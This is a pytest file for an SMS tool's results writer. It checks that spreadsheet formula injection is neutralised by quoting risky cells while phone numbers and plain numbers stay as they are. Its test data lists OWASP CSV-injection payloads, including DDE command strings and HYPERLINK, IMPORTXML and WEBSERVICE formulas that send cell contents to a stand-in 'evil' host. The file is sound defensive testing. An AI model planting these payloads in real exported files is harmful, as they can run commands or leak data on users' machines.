"""Results opened in Excel or LibreOffice: no formulas from audience data, Excel's dialect."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from smslink.audience.readers import open_audience
from smslink.audience.writers import (
    RESULT_COLUMNS,
    is_results_file,
    open_results,
    spreadsheet_safe,
)

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
# What may follow a leading + or - that is left alone: digits and number/phone separators,
# no letter but an exponent's e, so nothing a spreadsheet could call or reference.
HARMLESS_AFTER_SIGN = set("0123456789 .,-+()eE")

# OWASP "CSV Injection" payloads and their usual variants.
OWASP = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil","x")',
    '=HYPERLINK("http://evil/?leak="&A2&A3,"Error: click for details")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "+1+1",
    "-1+1",
    "=1+2",
    "-2+3+cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '=1+2";=1+2',
    "=1+2'\" ;,=1+2",
    '=IMPORTXML(CONCAT("http://evil/?v=", A1), "//a")',
    '=WEBSERVICE("http://evil")',
    "+1 (415) 555-0123+cmd|' /C calc'!A0",
    "-5+A1",
    "+",
    "-",
    "=",
    "@",
]
UNCHANGED = [
    "+14155550123",
    "+1 (415) 555-0123",
    "+44 20 7946 0123",
    "+1.415.555.0123",
    "+49-151-1234-5678",
    "-5",
    "+3.5",
    "-1e5",
    "-2.5E-3",
    "-3,5",
    "-.5",
    "1e5",
    "+123",
    "",
    "Zoë",
    "a=b",
    "'=1+2",  # already not a formula; left as it is (see the writers docstring)
    " =1+1",  # a leading space makes it text in Excel and LibreOffice
    "(415) 555-0123",
    "SM" + "0" * 32,
]
PREFIXED_PHONE_LOOKALIKES = [
    "+1 (415",  # unbalanced
    "+1  415 555 0123",  # double space
    "+1--415-555-0123",
    "+1 415 555 012a",
    "+ 14155550123",
    "+1 ( 415) 555-0123",
]


@pytest.mark.parametrize("payload", OWASP + PREFIXED_PHONE_LOOKALIKES)
def test_formulas_get_a_quote_in_front(payload: str) -> None:
    assert spreadsheet_safe(payload) == "'" + payload


@pytest.mark.parametrize("value", UNCHANGED)
def test_numbers_phones_and_text_stay_as_they_are(value: str) -> None:
    assert spreadsheet_safe(value) == value


def _read_csv(path: Path, delimiter: str = ",") -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.reader(file, delimiter=delimiter))


def test_owasp_payloads_are_neutralised_in_every_cell(tmp_path: Path) -> None:
    path = tmp_path / "results.csv"
    columns = ['=HYPERLINK("http://evil")', "Name"]
    with open_results(path, columns) as writer:
        for payload in OWASP:
            writer.write(
                {columns[0]: payload, "Name": "+14155550123"},
                {
                    "to": "+14155550123",
                    "status": "error",
                    "error_code": -1,
                    "error_message": payload,
                    "segments": 0,
                },
            )
    header, *rows = _read_csv(path)
    assert header[0] == "'" + columns[0]
    assert header[1:] == ["Name", *RESULT_COLUMNS]
    assert len(rows) == len(OWASP)
    for row, payload in zip(rows, OWASP, strict=True):
        assert row[0] == "'" + payload
        assert row[1] == "+14155550123"
        assert row[2] == "+14155550123"
        assert row[4] == "-1"  # a plain negative number stays a number
        assert row[5] == "'" + payload
    for row in rows:
        for cell in row:
            assert not cell.startswith(TRIGGERS) or set(cell[1:]) <= HARMLESS_AFTER_SIGN


def test_json_lines_are_not_altered(tmp_path: Path) -> None:
    path = tmp_path / "results.jsonl"
    with open_results(path, ["=x"], bom=True, sep_line=True, delimiter=";") as writer:
        writer.write({"=x": "=cmd|' /C calc'!A0"}, {"error_message": "@SUM(1)"})
    raw = path.read_bytes()
    assert raw.startswith(b"{")
    row = json.loads(raw)
    assert row["=x"] == "=cmd|' /C calc'!A0"
    assert row["error_message"] == "@SUM(1)"


cells = st.text(st.characters(blacklist_categories=("Cs",)))
risky = st.one_of(
    cells,
    st.builds(lambda head, tail: head + tail, st.sampled_from([*TRIGGERS, "'"]), cells),
    st.from_regex(r"[+-][0-9 ().,eE+-]{0,20}", fullmatch=True),
    st.from_regex(r"\+[1-9][0-9]{6,14}", fullmatch=True),
)


@given(risky)
def test_a_cell_is_unchanged_or_quoted_and_never_a_formula(cell: str) -> None:
    out = spreadsheet_safe(cell)
    assert out in (cell, "'" + cell)
    if out.startswith(TRIGGERS):
        assert out == cell
        assert cell[0] in "+-"
        assert set(cell[1:]) <= HARMLESS_AFTER_SIGN
        assert any(c.isdigit() for c in cell)
    assert spreadsheet_safe(out) == out


@given(st.from_regex(r"\+[1-9][0-9]{6,14}", fullmatch=True))
def test_e164_numbers_are_never_quoted(number: str) -> None:
    assert spreadsheet_safe(number) == number


@given(st.one_of(st.integers(), st.floats(allow_nan=False, allow_infinity=False)))
def test_numbers_are_never_quoted(number: float) -> None:
    assert spreadsheet_safe(str(number)) == str(number)


def test_bom_for_excel(tmp_path: Path) -> None:
    path = tmp_path / "results.csv"
    with open_results(path, ["Straße"], bom=True, delimiter=";") as writer:
        writer.write({"Straße": "Königsallee 1"}, {"status": "error"})
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf" + "Straße;to;status;".encode())
    assert raw.count(b"\xef\xbb\xbf") == 1
    with open_audience(path) as reader:
        assert reader.columns == ["Straße", *RESULT_COLUMNS]
        assert next(iter(reader)).values["Straße"] == "Königsallee 1"


def test_no_bom_unless_asked(tmp_path: Path) -> None:
    with open_results(tmp_path / "r.csv", ["Phone"]):
        pass
    assert (tmp_path / "r.csv").read_bytes().startswith(b"Phone,to,")


def test_the_audience_delimiter_is_kept_and_quoting_still_works(tmp_path: Path) -> None:
    path = tmp_path / "results.csv"
    with open_results(path, ["Name", "Note"], delimiter=";") as writer:
        writer.write({"Name": "Müller; Hans", "Note": 'say "hi",\nthen go'}, {"status": "x"})
    text = path.read_text("utf-8")
    assert text.startswith("Name;Note;to;status;error_code;")
    assert '"Müller; Hans";"say ""hi"",\nthen go";;x;' in text
    with open_audience(path) as reader:
        row = next(iter(reader)).values
    assert row["Name"] == "Müller; Hans"
    assert row["Note"] == 'say "hi",\nthen go'


def test_sep_line(tmp_path: Path) -> None:
    path = tmp_path / "results.csv"
    with open_results(path, ["Telefon"], delimiter=";", bom=True, sep_line=True) as writer:
        writer.write({"Telefon": "+4915112345678"}, {"status": "error"})
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbfsep=;\r\nTelefon;to;status;")
    assert is_results_file(path)


def test_tsv_results_use_tabs(tmp_path: Path) -> None:
    for delimiter in (None, ";"):
        path = tmp_path / "results.tsv"
        with open_results(path, ["Name"], delimiter=delimiter) as writer:
            writer.write({"Name": "a\tb"}, {"status": "error", "error_message": "\t=1"})
        assert _read_csv(path, "\t") == [
            ["Name", *RESULT_COLUMNS],
            ["a\tb", "", "error", "", "'\t=1", "", "", ""],
        ]


def test_txt_defaults_to_commas(tmp_path: Path) -> None:
    with open_results(tmp_path / "r.txt", ["Phone"]):
        pass
    assert (tmp_path / "r.txt").read_text("utf-8").startswith("Phone,to,status")


def test_an_unknown_delimiter_is_a_bug(tmp_path: Path) -> None:
    with pytest.raises(ValueError, match="delimiter must be one of"):
        open_results(tmp_path / "r.csv", ["Phone"], delimiter="|")
    assert list(tmp_path.iterdir()) == []


@settings(
    max_examples=60,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture],
)
@given(
    st.sampled_from([",", ";", "\t"]),
    st.lists(
        st.tuples(cells.filter(lambda s: "\x00" not in s), risky.filter(lambda s: "\x00" not in s)),
        max_size=5,
    ),
)
def test_round_trip_modulo_the_quote_rule(
    tmp_path: Path, delimiter: str, rows: list[tuple[str, str]]
) -> None:
    path = tmp_path / "results.csv"  # each example replaces the previous results file
    with open_results(path, ["Name", "Note"], delimiter=delimiter, bom=True) as writer:
        for name, note in rows:
            writer.write({"Name": name, "Note": note}, {"status": "sent"})
    header, *read = _read_csv(path, delimiter)
    assert header == ["Name", "Note", *RESULT_COLUMNS]
    assert len(read) == len(rows)
    for got, (name, note) in zip(read, rows, strict=True):
        assert got[0] in (name, "'" + name)
        assert got[1] in (note, "'" + note)
        assert got[:2] == [spreadsheet_safe(name), spreadsheet_safe(note)]
        assert got[2:] == ["", "sent", "", "", "", "", ""]
